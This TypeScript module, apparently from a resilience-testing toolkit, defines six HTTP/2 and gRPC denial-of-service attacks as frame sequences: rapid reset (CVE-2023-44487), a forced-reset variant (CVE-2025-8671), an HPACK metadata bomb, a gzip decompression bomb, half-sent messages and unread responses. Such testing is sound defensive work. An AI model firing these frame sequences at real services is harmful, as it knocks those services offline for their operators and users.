import { gzipSync } from 'node:zlib';
import { callHeaders, flag, frame, frameType, grpcMessage, headerBlock, setting, uint32 } from '@zt/kit/testing';
import { type Attack, attackInFrames } from './attack.ts';
import { beginCall, streamOf } from './call-frames.ts';

/** Calls, so many in a round, each with what comes after it. */
function calls(inRound: number, frames: (stream: number) => readonly Buffer[]) {
  return (round: number) => {
    const streams = Array.from({ length: inRound }, (_, index) => streamOf(round * inRound + index));
    return { bytes: Buffer.concat(streams.flatMap(frames)), attempts: inRound };
  };
}

/** The first rounds only; after them the connection is kept. */
const onlyIn = (rounds: number, each: ReturnType<typeof calls>) => (round: number) =>
  round < rounds ? each(round) : null;

const bomb = grpcMessage(gzipSync(Buffer.alloc(500_000)), { compressed: true });
const bombs = Buffer.concat(Array<Buffer>(24).fill(bomb));
const empty = grpcMessage(Buffer.alloc(0));

/** A header of 3,000 bytes that is put into the table once, and then named by one byte (RFC 7541, section 6). */
const kept = Buffer.concat([Buffer.from([0x40]), headerBlock([['x-bomb', 'x'.repeat(3_000)]]).subarray(1)]);
const metadataBomb = Buffer.concat([callHeaders('/grpc.health.v1.Health/Check'), kept, Buffer.alloc(40, 0xbe)]);

/** Half of a message that is as long as one may be. */
const half = Buffer.alloc(16_384);
half.writeUInt32BE(500_000, 1);

/** What a workload can do with calls that it need not be allowed to make. */
export const attacksOnCalls: readonly Attack[] = [
  {
    id: 'rapid-reset',
    title: 'begins calls and resets them at once (CVE-2023-44487)',
    run: attackInFrames({
      lines: 4,
      round: calls(50, (stream) => [beginCall(stream), frame(frameType.resetStream, { stream, payload: uint32(8) })]),
    }),
  },
  {
    id: 'made-reset',
    title: 'makes the service reset the calls that it begins (CVE-2025-8671)',
    run: attackInFrames({
      lines: 4,
      round: calls(50, (stream) => [beginCall(stream), frame(frameType.windowUpdate, { stream, payload: uint32(0) })]),
    }),
  },
  {
    id: 'metadata-bomb',
    title: 'sends headers that unfold to 120 KB, and never took note of the limit',
    run: attackInFrames({
      lines: 4,
      round: calls(20, (stream) => [
        frame(frameType.headers, { flags: flag.endHeaders, stream, payload: metadataBomb }),
      ]),
    }),
  },
  {
    id: 'decompression-bomb',
    title: 'sends messages that unfold to a thousand times their size, 24 in a frame',
    run: attackInFrames({
      lines: 4,
      round: calls(4, (stream) => [
        beginCall(stream, { 'grpc-encoding': 'gzip' }),
        frame(frameType.data, { stream, payload: bombs.subarray(0, 16_384) }),
      ]),
    }),
  },
  {
    id: 'unfinished-messages',
    title: 'begins 256 messages on each of 4 connections, and never comes to their end',
    run: attackInFrames({
      lines: 4,
      round: onlyIn(
        16,
        calls(16, (stream) => [beginCall(stream), frame(frameType.data, { stream, payload: half })]),
      ),
    }),
  },
  {
    id: 'unread-answers',
    title: 'calls 256 times on each of 4 connections, and takes no byte of an answer',
    run: attackInFrames({
      lines: 4,
      first: frame(frameType.settings, { payload: setting(4, 0) }),
      round: onlyIn(
        16,
        calls(16, (stream) => [
          beginCall(stream),
          frame(frameType.data, { flags: flag.endStream, stream, payload: empty }),
        ]),
      ),
    }),
  },
];
